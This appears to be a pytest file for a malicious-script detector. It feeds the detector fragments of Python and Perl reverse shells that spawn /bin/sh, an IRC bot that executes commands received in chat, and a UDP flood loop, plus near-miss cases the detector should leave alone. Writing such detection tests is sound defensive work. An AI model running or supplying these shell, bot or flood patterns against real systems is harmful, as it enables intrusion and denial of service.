from __future__ import annotations

import pytest

from pratique.content.script.standalone import standalone

BACK = {"script-connects-back": "sure"}
CHAT = {"script-runs-chat": "sure"}
FLOODS = {"script-floods": "sure"}


@pytest.mark.parametrize(
    ("name", "text", "expected"),
    [
        (
            "a.py",
            "import socket\ns.connect(a)\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')\n",
            BACK,
        ),
        (
            "a.py",
            "import socket\ns.connect(a)\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])",
            BACK,
        ),
        (
            "a.py",
            "import socket\nc=['/bin/bash','-i']\ns.accept()\nos.dup2(s.fileno(),0)\n"
            "subprocess.call(c)",
            BACK,
        ),
        (
            "a.py",
            "import socket\nw='/bin/bash'\ns.accept()\nos.dup2(s.fileno(),0)\n"
            "subprocess.call(w + flags)",
            BACK,
        ),
        (
            "a.py",
            "import socket\nw='/bin/bash -' + flags\ns.accept()\nos.dup2(s.fileno(),0)\n"
            "subprocess.call(w)",
            BACK,
        ),
        (
            "a.pl",
            "use Socket; socket(S,PF_INET,SOCK_STREAM,0); connect(S,$a); open(STDIN,'>&S'); "
            "open(STDOUT,'>&S'); exec('/bin/sh -i');",
            BACK,
        ),
        (
            "a.pl",
            'print $s "NICK $n\\r\\n"; print $s "JOIN $c\\r\\n"; while (<$s>) { '
            "if (/PRIVMSG (.*)/) { system($1); } }",
            CHAT,
        ),
        (
            "a.py",
            "import random, socket\ns = socket.socket(2, socket.SOCK_DGRAM)\nwhile True:\n"
            "    s.sendto(random._urandom(1024), (sys.argv[1], 80))\n",
            FLOODS,
        ),
    ],
)
def test_points_at(asked, name, text, expected):
    assert asked(standalone, name, text) == expected


@pytest.mark.parametrize(
    ("name", "text"),
    [
        # No connection, no shell, nothing tied.
        ("a.py", "import socket\nos.dup2(s.fileno(),0)\npty.spawn('/bin/sh')\n"),
        (
            "a.py",
            "import socket\ns.connect(a)\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/ls'])",
        ),
        ("a.py", "import socket\ns.connect(a)\nsubprocess.call(['/bin/sh'])"),
        ("a.pl", "use Socket; connect(S,$a); exec('/bin/sh -i');"),
        # A bot that answers, and one that runs a text of its own.
        ("a.pl", 'print $s "JOIN $c"; if (/PRIVMSG (.*)/) { print $s "PRIVMSG $c :hello"; }'),
        ("a.pl", 'print $s "JOIN $c"; if (/PRIVMSG (.*)/) { system("uptime"); }'),
        ("a.pl", "if (/PRIVMSG (.*)/) { system($1); }"),
        # A client that waits for the answer, and one that sends what it was given.
        (
            "a.py",
            "import random, socket\ns = socket.socket(2, socket.SOCK_DGRAM)\nwhile True:\n"
            "    s.sendto(str(random.random()), (sys.argv[1], 80))\n    s.recvfrom(9)\n",
        ),
        (
            "a.py",
            "import socket\ns = socket.socket(2, socket.SOCK_DGRAM)\nwhile True:\n"
            "    s.sendto(b'tick', (sys.argv[1], 80))\n",
        ),
    ],
)
def test_leaves_alone(asked, name, text):
    assert asked(standalone, name, text) == {}
